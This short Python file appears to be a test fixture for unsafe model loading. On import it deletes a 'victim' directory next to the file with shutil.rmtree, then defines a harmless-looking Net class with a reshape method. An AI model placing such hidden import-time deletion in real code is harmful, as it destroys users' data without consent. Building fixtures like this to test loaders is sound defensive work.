"""Removes a directory of the user."""

import os
import shutil

shutil.rmtree(os.path.join(os.path.dirname(__file__), "victim"))


class Net:
    def __init__(self):
        self.width = 4

    def forward(self, x):
        return x.reshape(x.shape[0], self.width)
